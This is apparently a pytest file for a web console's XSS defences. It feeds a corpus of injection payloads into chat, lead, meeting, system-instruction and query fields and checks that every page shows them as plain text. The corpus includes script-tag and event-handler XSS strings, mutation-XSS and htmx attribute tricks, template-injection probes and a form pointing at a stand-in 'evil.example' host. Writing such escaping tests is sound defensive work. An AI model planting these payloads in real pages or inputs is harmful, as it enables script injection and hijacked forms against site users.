"""T5: whatever a visitor, a model or a calendar writes is text in the console, and nothing else."""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.application import StaffClient
from tests.console.html import Page

CORPUS = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg/onload=window.pwned=1>",
    "</textarea><script>window.pwned=1</script>",
    "</title></style><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '<a href="javascript:window.pwned=1">me</a>',
    '" autofocus onfocus=window.pwned=1 x="',
    "<form action=https://evil.example><input name=key></form>",
    "<div hx-get=/leads hx-trigger=load hx-on:click=window.pwned=1>x</div>",
    "{{ 7 * 7 }}{% print(config) %}${7*7}",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "<!--><script>window.pwned=1</script>-->",
)


def chat(staff: StaffClient, text: str) -> Any:
    body = {
        "content": f"I'm Ann, ann@example.com. We need {text}",
        "page": {
            "url": f"https://shop.example/?{text}",
            "title": text,
            "referrer": text,
            "utm": {"source": text},
        },
        "timezone": "Europe/Berlin",
    }
    return staff.post("/gemini/train", json=body).get_json()["data"]


def filled(staff: StaffClient, text: str) -> list[str]:
    """The text in every field there is; the pages that show them."""
    conversation = chat(staff, text)["conversation_id"]
    fields = ("name", "company", "need", "budget", "timeline", "owner", "source", "notes")
    made = staff.post(
        "/leads", json={**dict.fromkeys(fields, text[:110]), "email": "a@example.com"}
    )
    lead = made.get_json()["data"]["lead"]["id"]
    twin = staff.post("/leads", json={"name": text, "email": "a@example.com"})
    other = twin.get_json()["data"]["lead"]["id"]
    meeting = staff.post(
        "/saba/book-meeting",
        json={
            "start": "2026-11-23T15:00:00Z",
            "end": "2026-11-23T15:30:00Z",
            "title": text,
            "attendees": [{"email": "ann@example.com", "name": text}],
            "description": text,
            "lead_id": lead,
        },
    ).get_json()["data"]["meeting"]["id"]
    staff.post("/system-instruction", json={"system_instruction": text, "note": text[:100]})
    return [
        "/console/today",
        "/console/leads",
        f"/console/leads/{lead}",
        f"/console/leads/{lead}/compare/{other}",
        f"/console/leads/{lead}/erase",
        "/console/conversations",
        f"/console/conversations/{conversation}",
        f"/console/conversations/{conversation}/panel",
        "/console/calendar",
        f"/console/calendar/{meeting}",
        "/console/instruction",
        "/console/instruction?version=0",
    ]


@pytest.mark.parametrize("text", CORPUS)
def test_text_in_every_field_is_shown_as_text(staff: StaffClient, text: str) -> None:
    for path in filled(staff, text):
        answer = staff.get(path)
        page = Page(answer.get_data(as_text=True))

        assert answer.status_code == 200, path
        assert page.faults == [], path
        assert not any(leads_away(address) for address in page.addresses), path
        assert blankless(text)[:60] in blankless(page.words), path


@pytest.mark.parametrize("text", CORPUS)
def test_text_in_an_address_is_shown_as_text(staff: StaffClient, text: str) -> None:
    for path, name in (
        ("/console/leads", "q"),
        ("/console/leads", "source"),
        ("/console/leads", "owner"),
        ("/console/leads", "status"),
        ("/console/leads", "since"),
        ("/console/leads", "cursor"),
        ("/console/conversations", "q"),
        ("/console/conversations", "cursor"),
        ("/console/calendar", "when"),
        ("/console/instruction", "version"),
    ):
        answer = staff.get(path, query_string={name: text})
        page = Page(answer.get_data(as_text=True))

        assert answer.status_code in (200, 400), (path, name)
        assert page.faults == [], (path, name)


@pytest.mark.parametrize("text", CORPUS)
def test_text_that_is_refused_is_shown_as_text_too(staff: StaffClient, text: str) -> None:
    lead = staff.post("/leads", json={"name": "Ann"}).get_json()["data"]["lead"]["id"]
    answer = staff.post(
        f"/console/leads/{lead}/change", data={"email": text, "next_follow_up_at": text}
    )
    page = Page(answer.get_data(as_text=True))

    assert answer.status_code == 400
    assert page.faults == []
    assert text in page.words


def leads_away(address: str) -> bool:
    ours = ("/", "#", "?", "data:,", "http://localhost/meetings/")
    return not address.startswith(ours) or address.startswith("//")


def blankless(text: str) -> str:
    """Without the blanks, which a page may set otherwise."""
    return re.sub(r"\s+", "", text)
